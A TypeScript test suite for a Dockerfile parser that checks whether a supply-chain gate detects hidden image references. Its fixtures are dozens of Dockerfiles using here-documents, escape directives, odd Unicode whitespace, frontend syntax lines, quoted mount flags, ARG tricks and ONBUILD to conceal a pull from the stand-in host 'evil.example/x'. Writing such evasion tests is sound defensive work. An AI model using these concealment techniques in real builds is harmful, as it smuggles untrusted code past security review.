// biome-ignore-all lint/suspicious/noTemplateCurlyInString: variables of Dockerfiles
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { TrustFault } from '@bulla/trust/fault/fault';
import { dockerfileImages } from '@bulla/trust/images/dockerfile';

/**
 * Dockerfiles by somebody who wants the gate to overlook `evil.example/x`, which BuildKit pulls.
 * Each is refused as unreadable, or the image is found.
 */
const HIDING: readonly {
  readonly name: string;
  readonly text: string;
  readonly args?: Readonly<Record<string, string>>;
}[] = [
  {
    name: 'behind a here-document that stands in quotes',
    text: 'FROM good\nRUN echo "<<foo"\nFROM evil.example/x\nRUN echo \\\nfoo',
  },
  {
    name: 'behind a here-document with a space, which is none',
    text: 'FROM good\nRUN cat << foo\nFROM evil.example/x\nRUN echo \\\nfoo',
  },
  {
    name: 'behind a shift of bits',
    text: 'FROM good\nRUN echo $((1<<foo))\nFROM evil.example/x\nRUN echo \\\nfoo',
  },
  {
    name: 'behind a here-string',
    text: 'FROM good\nRUN cat <<<foo\nFROM evil.example/x\nRUN echo \\\nfoo',
  },
  {
    name: 'behind a here-document in the form of a list, which opens none',
    text: 'FROM good\nRUN ["echo", "<<foo"]\nFROM evil.example/x\nRUN echo \\\nfoo',
  },
  {
    name: 'behind a quote that is not closed',
    text: "FROM good\nRUN echo don't <<foo\nFROM evil.example/x\nRUN echo \\\nfoo",
  },
  {
    name: 'behind a variable that holds a here-document',
    text: 'FROM good\nRUN echo ${A:-b <<foo}\nFROM evil.example/x\nRUN echo \\\nfoo',
  },
  {
    name: 'by a stage that a here-document with a number names',
    text: 'FROM good\nRUN <<1x\nFROM scratch AS evil.example\n1x\nFROM evil.example',
  },
  {
    name: 'by a stage within a here-document whose end is indented',
    text: 'FROM good\nRUN <<EOF\n EOF\nFROM scratch AS evil.example\nEOF\nFROM evil.example',
  },
  {
    name: 'by a stage within a here-document of ONBUILD',
    text: 'FROM good\nONBUILD RUN <<EOF\nFROM scratch AS evil.example\nEOF\nFROM evil.example',
  },
  { name: 'as a stage of no valid name', text: 'FROM good AS evil.example/x\nFROM evil.example/x' },
  {
    name: 'behind two signs of escape, which end no line',
    text: 'FROM good\nRUN echo \\\\\nFROM evil.example/x',
  },
  {
    name: 'behind a sign of escape and a space that is none',
    text: 'FROM good\nRUN echo \\\u00a0\nFROM evil.example/x',
  },
  {
    name: 'behind an escape after a directive that older builders do not know',
    text: '# check=skip=all\n# escape=`\nFROM good\nRUN echo \\\nFROM evil.example/x',
  },
  { name: 'as a frontend with a command', text: '# syntax=evil.example/x y\nFROM good' },
  { name: 'as a frontend behind a shell', text: '#!/bin/x\n# syntax=evil.example/x\nFROM good' },
  { name: 'as a frontend in the form of C', text: '//syntax=evil.example/x\nFROM good' },
  { name: 'as a frontend in JSON', text: '{"syntax": "evil.example/x"}' },
  {
    name: 'as a frontend by a build argument',
    text: 'FROM good',
    args: { BUILDKIT_SYNTAX: 'evil.example/x' },
  },
  { name: 'behind a space that only BuildKit sees', text: 'FROM good\n\u0085FROM evil.example/x' },
  {
    name: 'in a mount with capitals',
    text: 'FROM good\nRUN --mount=type=bind,FROM=evil.example/x,target=/x true',
  },
  {
    name: 'in a quoted mount',
    text: 'FROM good\nRUN --mount="type=bind,from=evil.example/x,target=/x" true',
  },
  {
    name: 'in a mount with a quoted field',
    text: `FROM good\nRUN --mount='type=bind,"from=evil.example/x",target=/x' true`,
  },
  {
    name: 'in a mount with escapes',
    text: 'FROM good\nRUN --mount=type=bind,f\\rom=evil.example/x,target=/x true',
  },
  { name: 'in a quoted flag', text: 'FROM good\nCOPY --"from"=evil.example/x / /' },
  { name: 'in a flag with an escape', text: 'FROM good\nCOPY --fr\\om=evil.example/x / /' },
  { name: 'in a flag without its sign', text: 'FROM good\nCOPY --from evil.example/x / /' },
  {
    name: 'behind an alternative of what the builder knows',
    text: 'FROM ${BUILDOS:+evil.example/x:}${BUILDOS:-good}',
  },
  {
    name: 'behind the name of the stage that is built',
    text: 'FROM ${TARGETSTAGE:+evil.example/}${TARGETSTAGE:-good}',
  },
  {
    name: 'behind an argument within the quotes of another',
    text: 'ARG B=evil.example/x\nARG X="foo B=good "\nFROM $B',
  },
  { name: 'behind a quoted name', text: 'ARG A=good\nARG "A"=evil.example/x\nFROM $A' },
  {
    name: 'behind an argument of the same instruction',
    text: 'ARG A=good B=${A:-evil.example/x}\nFROM $B',
  },
  {
    name: 'behind an argument that loses its value',
    text: 'ARG A=good\nARG A\nFROM ${A:-evil.example/x}',
  },
  {
    name: 'behind a comment that is none to Go, for U+FEFF is no space there',
    text: 'FROM good\nRUN true \\\n\uFEFF# y\nFROM evil.example/x',
  },
  {
    name: 'behind an empty line that is none to Go',
    text: 'FROM good\nRUN true \\\n\uFEFF\nFROM evil.example/x',
  },
  {
    name: 'by a stage behind a line that is empty to Go alone',
    text: 'FROM good\nRUN true \\\n\u0085\nFROM good AS evil.example\nFROM evil.example',
  },
  {
    name: 'behind an escape that is one by a space that Go does not have',
    text: '#\uFEFFescape=`\nFROM good\nRUN true # `\nFROM evil.example/x',
  },
  {
    name: 'behind an escape that is one by a space before its sign',
    text: '# escape\u00A0=`\nFROM good\nRUN true # `\nFROM evil.example/x',
  },
  {
    name: 'behind an escape that is one by a space that Go alone has',
    text: '#\u0085escape=`\nFROM good\nRUN dir c:\\\nFROM evil.example/x',
  },
  {
    name: 'behind an escape after a directive that only JavaScript ends early',
    text: '# check=x\u2028y\n# escape=`\nFROM good\nRUN dir c:\\\nFROM evil.example/x',
  },
  {
    name: 'behind a here-document whose name ends with a space that Go does not have',
    text: 'FROM good\nRUN cat <<E\uFEFF\nE\uFEFF\nFROM evil.example/x\nRUN echo \\\nE',
  },
  {
    name: 'behind a list that BuildKit before 0.15 took for the whole command',
    text: 'FROM good\nRUN ["true"] <<foo\nFROM evil.example/x\nRUN echo \\\nfoo',
  },
  {
    name: 'in a here-document for builders that know none',
    text: 'FROM good\nCOPY <<EOF /x\nFROM evil.example/x\nRUN true \\\nEOF',
  },
  {
    name: 'in a here-document that ends with a word that is an instruction',
    text: 'FROM good\nRUN <<CMD\nCOPY --from=evil.example/x / /\nCMD',
  },
  {
    name: 'behind a return that only some builders take for a part of the line',
    text: 'FROM good\nRUN true \\\r\r\nFROM evil.example/x',
  },
  {
    name: 'in what a stage leaves to one that is built from it',
    text: 'FROM good AS a\nONBUILD COPY --from=evil.example/x / /\nFROM A',
  },
  {
    name: 'in a mount that a stage leaves to one that is built from it',
    text: 'FROM good AS a\nFROM good AS b\nONBUILD RUN --mount=type=bind,from=evil.example/x true\nFROM b',
  },
];

const NUMBERED: readonly { readonly name: string; readonly text: string }[] = [
  { name: 'FROM', text: 'FROM good\nFROM 0' },
  { name: 'COPY, of a stage that is not there', text: 'FROM good\nCOPY --from=7 / /' },
];

describe('an image that a Dockerfile hides', () => {
  for (const { name, text, args } of HIDING) {
    test(`is found or refused: ${name}`, () => {
      let found: readonly string[];
      try {
        found = dockerfileImages(text, args).map(({ reference }) => reference);
      } catch (error) {
        assert.ok(error instanceof TrustFault && error.code.startsWith('images.'));
        return;
      }
      assert.ok(
        found.some((reference) => reference.startsWith('evil.example')),
        `found ${found.join(', ')}`,
      );
    });
  }
  for (const { name, text } of NUMBERED) {
    test(`is found when it is called as a stage is numbered: ${name}`, () => {
      assert.equal(dockerfileImages(text).length, 2);
    });
  }
  test('honest here-documents are passed over', () => {
    const text = [
      'FROM good AS a',
      'RUN --mount=type=bind,from=tools,target="/t" cat <<EOF > ${HOME}/x && cat <<-\'E2\'',
      'FROM one',
      'EOF',
      'FROM two',
      '\tE2',
      'COPY --from=a --chmod=755 <<run.sh /run.sh',
      '#!/bin/sh',
      'FROM three',
      'run.sh',
      'RUN echo "a << b" $((1<<3)) <<< "x"',
      'ONBUILD RUN <<EOF',
      'FROM four',
      'EOF',
      'RUN ["cat", "<<EOF"]',
    ].join('\n');
    assert.deepEqual(
      dockerfileImages(text).map(({ reference }) => reference),
      ['good', 'tools'],
    );
  });
});
